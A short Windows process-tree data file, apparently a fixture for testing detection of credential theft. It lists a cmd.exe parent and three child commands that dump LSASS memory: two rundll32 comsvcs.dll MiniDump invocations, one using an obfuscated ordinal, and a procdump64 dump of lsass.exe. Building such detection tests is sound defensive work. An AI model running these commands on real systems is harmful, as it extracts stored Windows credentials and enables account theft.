os windows
900 4 ana - C:\Windows\System32\cmd.exe | cmd
+ 901 900 ana - C:\Windows\System32\rundll32.exe | rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full
+ 902 900 ana - C:\Windows\System32\rundll32.exe | rundll32 comsvcs.dll #+000024 624 l.dmp full
+ 903 900 ana - C:\Tools\procdump64.exe | procdump64.exe -accepteula -ma lsass.exe l.dmp
